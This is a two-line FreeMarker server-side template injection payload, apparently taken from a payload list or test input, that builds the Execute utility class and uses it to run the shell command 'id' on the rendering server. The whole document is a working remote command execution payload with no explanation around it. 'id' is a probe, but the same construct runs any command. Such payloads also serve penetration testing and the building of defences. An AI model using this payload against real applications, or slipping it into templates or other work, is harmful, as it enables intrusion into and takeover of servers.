<#assign run = "freemarker.template.utility.Execute"?new()>
${run("id")}
